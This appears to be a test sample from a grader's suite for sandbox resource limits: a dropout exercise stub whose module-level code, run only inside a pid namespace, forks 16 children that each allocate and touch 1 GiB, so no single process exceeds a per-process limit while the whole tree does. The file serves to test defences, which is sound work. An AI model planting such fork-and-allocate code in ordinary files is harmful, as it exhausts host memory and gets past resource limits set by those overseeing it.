"""Starts 16 child processes that each allocate and touch 1 GiB, so that no single
process is over a per-process limit while the tree as a whole is far over it.

Attack: many subprocesses each allocating memory
Honest maximum: 0
"""

import torch
from torch import nn


def _inside_sandbox():
    """Safety guard of the grader's test suite, not part of the attack: the destructive part
    runs only inside the grader's pid namespace, never on a machine without the sandbox."""
    try:
        with open("/proc/self/status") as fh:
            for line in fh:
                if line.startswith("NSpid:"):
                    return len(line.split()) > 2
    except OSError:
        pass
    return False

import os
import time


if _inside_sandbox():
    _kids = []
    for _ in range(16):
        pid = os.fork()
        if pid == 0:
            try:
                hog = bytearray(1 << 30)
                for i in range(0, len(hog), 4096):
                    hog[i] = 1
                time.sleep(60)
            finally:
                os._exit(0)
        _kids.append(pid)
    time.sleep(30)


def dropout_layer(X, p, training=True):
    raise NotImplementedError("implement dropout_layer")


class Dropout(nn.Module):
    def __init__(self, p):
        super().__init__()
        raise NotImplementedError("implement Dropout.__init__")

    def forward(self, X):
        raise NotImplementedError("implement Dropout.forward")
